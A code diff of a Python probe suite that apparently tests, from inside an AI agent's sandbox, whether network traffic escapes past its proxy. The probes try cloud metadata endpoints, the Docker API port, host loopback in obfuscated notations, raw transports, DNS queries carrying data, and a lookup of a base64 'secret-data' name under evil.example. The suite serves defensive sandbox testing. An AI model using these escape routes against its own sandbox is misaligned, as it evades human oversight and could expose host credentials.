@@ -1,16 +1,18 @@
 """A7 and A10 from inside: does a packet, a name or a connection leave the sandbox by another way than its proxy?
 
-A refusal is an error that the kernel gives at once. A connection that runs into a time-out, or a datagram that is taken, has left.
+A refusal is an error that the kernel gives at once. A connection that runs into a time-out, or a datagram that is
+taken, has left.
 """
 
 from __future__ import annotations
 
+import contextlib
 import errno
 import os
 import socket
 import struct
 import time
-from typing import Any, Dict, List, Optional, Tuple
+from typing import Any
 
 from hostler.attacks.inside.battery import probe
 
@@ -34,7 +36,7 @@ UNSENT = {
 SECONDS = 0.7
 
 
-def leaves(family: int, kind: int, protocol: int, address: Tuple[Any, ...]) -> Optional[str]:
+def leaves(family: int, kind: int, protocol: int, address: tuple[Any, ...]) -> str | None:
     """None: nothing left. Else what happened."""
     began = time.monotonic()
     try:
@@ -46,7 +48,7 @@ def leaves(family: int, kind: int, protocol: int, address: Tuple[Any, ...]) -> O
                 return "was taken"
             s.connect(address)
             return "connected"
-    except socket.timeout:
+    except TimeoutError:
         return "left, and nobody answered"
     except OSError as error:
         if error.errno in UNSENT:
@@ -58,7 +60,7 @@ def leaves(family: int, kind: int, protocol: int, address: Tuple[Any, ...]) -> O
         return f"left ({errno.errorcode.get(error.errno or 0, str(error))})"
 
 
-def _all(family: int, kind: int, targets: List[Tuple[str, int]], protocol: int = 0) -> List[str]:
+def _all(family: int, kind: int, targets: list[tuple[str, int]], protocol: int = 0) -> list[str]:
     found = []
     for target in targets:
         outcome = leaves(family, kind, protocol, target)
@@ -68,45 +70,45 @@ def _all(family: int, kind: int, targets: List[Tuple[str, int]], protocol: int =
 
 
 @probe
-def tcp4(given: Dict[str, Any]) -> List[str]:
+def tcp4(given: dict[str, Any]) -> list[str]:
     return _all(socket.AF_INET, STREAM, [("1.1.1.1", 443), ("8.8.8.8", 53)])
 
 
 @probe
-def tcp6(given: Dict[str, Any]) -> List[str]:
+def tcp6(given: dict[str, Any]) -> list[str]:
     return _all(socket.AF_INET6, STREAM, [("2606:4700:4700::1111", 443), ("::ffff:1.1.1.1", 443)])
 
 
 @probe
-def udp(given: Dict[str, Any]) -> List[str]:
+def udp(given: dict[str, Any]) -> list[str]:
     return _all(socket.AF_INET, DATAGRAM, [("1.1.1.1", 443), ("8.8.8.8", 123)])
 
 
 @probe
-def udp6(given: Dict[str, Any]) -> List[str]:
+def udp6(given: dict[str, Any]) -> list[str]:
     return _all(socket.AF_INET6, DATAGRAM, [("2606:4700:4700::1111", 443)])
 
 
 @probe
-def metadata(given: Dict[str, Any]) -> List[str]:
+def metadata(given: dict[str, Any]) -> list[str]:
     targets = [("169.254.169.254", 80), ("100.100.100.200", 80), ("168.63.129.16", 80)]
     return _all(socket.AF_INET, STREAM, targets) + _all(socket.AF_INET6, STREAM, [("fd00:ec2::254", 80)])
 
 
 @probe
-def local_networks(given: Dict[str, Any]) -> List[str]:
+def local_networks(given: dict[str, Any]) -> list[str]:
     targets = [("10.0.0.1", 443), ("192.168.0.1", 443), ("172.17.0.1", 2375), ("100.64.0.1", 443)]
     return _all(socket.AF_INET, STREAM, targets) + _all(socket.AF_INET6, STREAM, [("fd00::1", 443)])
 
 
 @probe
-def broadcast(given: Dict[str, Any]) -> List[str]:
+def broadcast(given: dict[str, Any]) -> list[str]:
     targets = [("255.255.255.255", 9), ("224.0.0.251", 5353), ("239.255.255.250", 1900)]
     return _all(socket.AF_INET, DATAGRAM, targets)
 
 
 @probe
-def host_loopback(given: Dict[str, Any]) -> List[str]:
+def host_loopback(given: dict[str, Any]) -> list[str]:
     """A server that listens on the host's own loopback: the control plane would be there."""
     found = []
     for address in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "::1"):
@@ -122,14 +124,14 @@ def host_loopback(given: Dict[str, Any]) -> List[str]:
 
 
 @probe
-def ping(given: Dict[str, Any]) -> List[str]:
+def ping(given: dict[str, Any]) -> list[str]:
     return _all(socket.AF_INET, DATAGRAM, [("1.1.1.1", 0)], socket.IPPROTO_ICMP) + _all(
         socket.AF_INET, socket.SOCK_RAW, [("1.1.1.1", 0)], socket.IPPROTO_ICMP
     )
 
 
 @probe
-def other_transports(given: Dict[str, Any]) -> List[str]:
+def other_transports(given: dict[str, Any]) -> list[str]:
     """SCTP, DCCP, UDP-Lite, MPTCP: what a rule for TCP and UDP forgets."""
     sctp, dccp, udplite, mptcp = 132, 33, 136, 262
     found = []
@@ -146,7 +148,7 @@ def _query(name: str) -> bytes:
 
 
 @probe
-def resolvers(given: Dict[str, Any]) -> List[str]:
+def resolvers(given: dict[str, Any]) -> list[str]:
     """DNS to any resolver, with data in the name: the usual ones, the container engines' own, and the loopback stub."""
     found = []
     for server in ("8.8.8.8", "1.1.1.1", "127.0.0.11", "127.0.0.53", "10.0.2.3", "169.254.169.253"):
@@ -160,7 +162,7 @@ def resolvers(given: Dict[str, Any]) -> List[str]:
                     found.append(f"{server} answered")
                 else:
                     found.append(f"a query to {server} left")
-        except socket.timeout:
+        except TimeoutError:
             if not server.startswith("127."):
                 found.append(f"a query to {server} left")
         except OSError:
@@ -169,28 +171,24 @@ def resolvers(given: Dict[str, Any]) -> List[str]:
 
 
 @probe
-def names(given: Dict[str, Any]) -> List[str]:
+def names(given: dict[str, Any]) -> list[str]:
     found = []
     for name in ("example.com", "c2VjcmV0LWRhdGE.evil.example", "metadata.google.internal", "host.docker.internal"):
-        try:
+        with contextlib.suppress(OSError):
             found.append(f"{name} is {socket.getaddrinfo(name, 80)[0][4][0]}")
-        except OSError:
-            pass
     return found
 
 
 @probe
-def interfaces(given: Dict[str, Any]) -> List[str]:
+def interfaces(given: dict[str, Any]) -> list[str]:
     found = []
-    try:
+    with contextlib.suppress(OSError):
         found += [f"there is an interface {name}" for _, name in socket.if_nameindex() if name != "lo"]
-    except OSError:
-        pass
     return found
 
 
 @probe
-def routes(given: Dict[str, Any]) -> List[str]:
+def routes(given: dict[str, Any]) -> list[str]:
     found = []
     for path in ("/proc/net/route", "/proc/net/ipv6_route"):
         try:
@@ -205,8 +203,8 @@ def routes(given: Dict[str, Any]) -> List[str]:
 
 
 @probe
-def new_interface(given: Dict[str, Any]) -> List[str]:
-    """Asks the kernel to change the loopback's length of queue to what it is not, without the right to be asked."""
+def new_interface(given: dict[str, Any]) -> list[str]:
+    """Asks the kernel for a dummy interface; it is removed where it could be made."""
     try:
         with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
             s.settimeout(2)
@@ -231,7 +229,7 @@ def new_interface(given: Dict[str, Any]) -> List[str]:
 
 
 @probe
-def two_sockets(given: Dict[str, Any]) -> List[str]:
+def two_sockets(given: dict[str, Any]) -> list[str]:
     """Every socket file of the sandbox is one of its two roads."""
     import stat
 
@@ -242,14 +240,17 @@ def two_sockets(given: Dict[str, Any]) -> List[str]:
         for name in files:
             path = os.path.join(folder, name)
             try:
-                if stat.S_ISSOCK(os.lstat(path).st_mode) and os.path.basename(path) not in ("model.sock", "egress.sock"):
+                if stat.S_ISSOCK(os.lstat(path).st_mode) and os.path.basename(path) not in (
+                    "model.sock",
+                    "egress.sock",
+                ):
                     found.append(f"there is a socket {path}")
             except OSError:
                 pass
     return found
 
 
-# --------------------------------------------------------------------------------- the road itself, from where it is used
+# ------------------------------------------------------------------------------- the road itself, from where it is used
 
 
 def ask(request: str, by: Any = PROXY) -> str:
@@ -266,7 +267,7 @@ def ask(request: str, by: Any = PROXY) -> str:
                 if not piece:
                     break
                 answer += piece
-        except socket.timeout:
+        except TimeoutError:
             pass
     return answer.decode("latin-1")
 
@@ -275,7 +276,7 @@ def _get(url: str) -> str:
     return f"GET {url} HTTP/1.1\r\nHost: allowed.example\r\n\r\n"
 
 
-def _let_through(requests: List[str], by: Any = PROXY) -> List[str]:
+def _let_through(requests: list[str], by: Any = PROXY) -> list[str]:
     found = []
     for request in requests:
         answer = ask(request, by)
@@ -285,7 +286,7 @@ def _let_through(requests: List[str], by: Any = PROXY) -> List[str]:
 
 
 @probe
-def road_control(given: Dict[str, Any]) -> List[str]:
+def road_control(given: dict[str, Any]) -> list[str]:
     """No attack: an allowed request must get through, or the denials of the others prove nothing."""
     answer = ask(_get(f"http://allowed.example:{given['port']}/"))
     if "canary" not in answer:
@@ -294,7 +295,7 @@ def road_control(given: Dict[str, Any]) -> List[str]:
 
 
 @probe
-def road_denials(given: Dict[str, Any]) -> List[str]:
+def road_denials(given: dict[str, Any]) -> list[str]:
     port = given["port"]
     return _let_through(
         [
@@ -308,7 +309,7 @@ def road_denials(given: Dict[str, Any]) -> List[str]:
 
 
 @probe
-def road_by_socket(given: Dict[str, Any]) -> List[str]:
+def road_by_socket(given: dict[str, Any]) -> list[str]:
     """Not by the forwarder but by the socket itself: the rules are behind it, not before it."""
     port = given["port"]
     return _let_through(
@@ -317,15 +318,15 @@ def road_by_socket(given: Dict[str, Any]) -> List[str]:
 
 
 @probe
-def road_to_host(given: Dict[str, Any]) -> List[str]:
+def road_to_host(given: dict[str, Any]) -> list[str]:
     """The host's loopback by way of the proxy, in several notations."""
     port = given["port"]
-    hosts = ("127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1")
-    return _let_through([_get(f"http://{host}:{port}/") for host in hosts if host != "localhost"])
+    hosts = ("127.0.0.1", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1")
+    return _let_through([_get(f"http://{host}:{port}/") for host in hosts])
 
 
 @probe
-def road_is_dead(given: Dict[str, Any]) -> List[str]:
+def road_is_dead(given: dict[str, Any]) -> list[str]:
     """The road was closed meanwhile: there must be no network now, by no way."""
     found = []
     for by in (PROXY, SOCKET):
